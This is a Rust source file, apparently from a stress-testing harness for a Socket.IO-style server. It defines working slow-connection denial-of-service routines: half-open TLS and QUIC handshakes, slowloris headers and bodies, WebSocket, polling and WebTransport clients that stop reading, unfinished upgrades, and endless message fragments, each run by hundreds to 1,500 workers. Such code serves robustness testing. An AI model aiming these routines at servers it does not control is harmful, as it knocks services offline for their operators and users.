//! Attacks that wait: half of everything, and readers that do not read.

use std::time::Duration;

use anyhow::{Result, bail};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::client::{
    answer, client_hello, endpoint, frame, get, joined, open_polling, post, short, tcp, text, url,
    websocket, webtransport,
};
use crate::{Attack, Field};

/// What a slow reader's kernel takes.
const WINDOW: Option<u32> = Some(4096);

pub(crate) const ATTACKS: &[Attack] = &[
    Attack {
        name: "half-open-tls",
        title: "TLS handshakes that stop within a ClientHello or after it",
        unit: "connections",
        workers: 1500,
        work: |field| Box::pin(async move { half_open_tls(&field).await }),
    },
    Attack {
        name: "half-open-quic",
        title: "QUIC handshakes that are begun and left",
        unit: "handshakes",
        workers: 16,
        work: |field| Box::pin(async move { half_open_quic(&field).await }),
    },
    Attack {
        name: "slowloris-headers",
        title: "HTTP heads that come a byte at a time",
        unit: "connections",
        workers: 1500,
        work: |field| Box::pin(async move { slow_headers(&field).await }),
    },
    Attack {
        name: "slowloris-bodies",
        title: "POST bodies that come a byte at a time",
        unit: "bodies",
        workers: 1000,
        work: |field| Box::pin(async move { slow_body(&field).await }),
    },
    Attack {
        name: "slow-readers-websocket",
        title: "1,000 WebSocket clients that stop reading under full fan-out",
        unit: "clients",
        workers: 1000,
        work: |field| Box::pin(async move { slow_websocket(&field).await }),
    },
    Attack {
        name: "slow-readers-polling",
        title: "1,000 polling clients that do not read their answers under full fan-out",
        unit: "clients",
        workers: 1000,
        work: |field| Box::pin(async move { slow_polling(&field).await }),
    },
    Attack {
        name: "slow-readers-webtransport",
        title: "1,000 WebTransport clients that stop reading under full fan-out",
        unit: "clients",
        workers: 1000,
        work: |field| Box::pin(async move { slow_webtransport(&field).await }),
    },
    Attack {
        name: "silent-sessions",
        title: "WebSocket sessions that never join a namespace",
        unit: "sessions",
        workers: 1500,
        work: |field| Box::pin(async move { silent(&field).await }),
    },
    Attack {
        name: "unfinished-upgrades",
        title: "Upgrades that are probed and never finished",
        unit: "upgrades",
        workers: 700,
        work: |field| Box::pin(async move { unfinished_upgrade(&field).await }),
    },
    Attack {
        name: "unfinished-upgrades-webtransport",
        title: "Upgrades to WebTransport that are probed and never finished",
        unit: "upgrades",
        workers: 400,
        work: |field| Box::pin(async move { unfinished_quic_upgrade(&field).await }),
    },
    Attack {
        name: "endless-fragments",
        title: "WebSocket messages in fragments without an end, up to the limit",
        unit: "messages",
        workers: 100,
        work: |field| Box::pin(async move { endless_fragments(&field).await }),
    },
];

async fn half_open_tls(field: &Field) -> Result<()> {
    let mut stream = tcp(field, None).await?;
    if rand::random() {
        // a record of 512 bytes is announced, a ClientHello in it, and little of it comes
        stream.write_all(&[22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3, 7, 7, 7]).await?;
    } else {
        // all of it, and of what the server has signed for it only the beginning is read
        stream.write_all(&client_hello()?).await?;
        stream.read_u8().await?;
    }
    field.done();
    field.hold().await;
    Ok(())
}

async fn half_open_quic(field: &Field) -> Result<()> {
    let endpoint = endpoint(field, None)?;
    let connecting = endpoint.connect(url(field));
    let _ = tokio::time::timeout(Duration::from_micros(500), connecting).await;
    field.done();
    Ok(())
}

async fn slow_headers(field: &Field) -> Result<()> {
    let mut stream = tcp(field, None).await?;
    field.done();
    stream.write_all(b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nX-Slow: ").await?;
    while field.is_on() {
        tokio::time::sleep(Duration::from_millis(500)).await;
        stream.write_all(b"x").await?;
    }
    Ok(())
}

async fn slow_body(field: &Field) -> Result<()> {
    let mut stream = tcp(field, None).await?;
    let sid = open_polling(&mut stream).await?;
    let head = post(&sid, "").replace("Content-Length: 0", "Content-Length: 500000");
    stream.write_all(head.as_bytes()).await?;
    field.done();
    while field.is_on() {
        stream.write_all(b"4").await?;
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    Ok(())
}

async fn slow_websocket(field: &Field) -> Result<()> {
    let stream = joined(field, WINDOW).await?;
    field.done();
    field.hold().await;
    drop(stream);
    Ok(())
}

async fn slow_polling(field: &Field) -> Result<()> {
    // wide enough for what it has to read before it stops
    let mut stream = tcp(field, Some(32_768)).await?;
    let sid = open_polling(&mut stream).await?;
    stream.write_all(post(&sid, "40").as_bytes()).await?;
    answer(&mut stream).await?;
    stream.write_all(get(&format!("polling&sid={sid}")).as_bytes()).await?;
    answer(&mut stream).await?;
    // the answer to this one stays where it is
    tokio::time::sleep(Duration::from_secs(1)).await;
    stream.write_all(get(&format!("polling&sid={sid}")).as_bytes()).await?;
    field.done();
    field.hold().await;
    Ok(())
}

async fn slow_webtransport(field: &Field) -> Result<()> {
    let mut session = webtransport(field, WINDOW).await?;
    session.send.write_all(&[short("0"), short("40")].concat()).await?;
    field.done();
    field.hold().await;
    drop((session.recv, session.connection, session.endpoint));
    Ok(())
}

/// A visit over each transport, and on QUIC a goodbye.
pub(crate) async fn visit(field: &Field) -> Result<()> {
    let mut session = webtransport(field, None).await?;
    session.send.write_all(&[short("0"), short("40")].concat()).await?;
    let mut polling = tcp(field, None).await?;
    let sid = open_polling(&mut polling).await?;
    for packet in ["40", "1"] {
        polling.write_all(post(&sid, packet).as_bytes()).await?;
        answer(&mut polling).await?;
    }
    let mut socket = joined(field, None).await?;
    socket.read_u8().await?;
    socket.write_all(&frame(0x88, &1000_u16.to_be_bytes())).await?;
    field.done();
    session.connection.close(0u32.into(), b"");
    session.endpoint.wait_idle().await;
    Ok(())
}

async fn silent(field: &Field) -> Result<()> {
    let stream = websocket(field, None, None, "").await?;
    field.done();
    field.hold().await;
    drop(stream);
    Ok(())
}

async fn unfinished_upgrade(field: &Field) -> Result<()> {
    let mut stream = tcp(field, None).await?;
    let sid = open_polling(&mut stream).await?;
    let mut probe = websocket(field, Some(&sid), None, "").await?;
    probe.write_all(&text("2probe")).await?;
    field.done();
    field.hold().await;
    Ok(())
}

async fn unfinished_quic_upgrade(field: &Field) -> Result<()> {
    let mut stream = tcp(field, None).await?;
    let sid = open_polling(&mut stream).await?;
    let mut session = webtransport(field, None).await?;
    let open = format!("0{{\"sid\":\"{sid}\"}}");
    session.send.write_all(&[short(&open), short("2probe")].concat()).await?;
    // its answer says that the server has gone along
    let mut probed = [0; 7];
    session.recv.read_exact(&mut probed).await?;
    if probed[1..] != *b"3probe" {
        bail!("refused");
    }
    field.done();
    field.hold().await;
    Ok(())
}

async fn endless_fragments(field: &Field) -> Result<()> {
    let mut stream = joined(field, None).await?;
    stream.write_all(&frame(0x01, b"4")).await?;
    field.done();
    // 900 kB of a message, and then one byte after the other
    let piece = frame(0x00, &vec![b'x'; 100_000]);
    for _ in 0..9 {
        stream.write_all(&piece).await?;
    }
    while field.is_on() {
        stream.write_all(&frame(0x00, b"x")).await?;
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    Ok(())
}
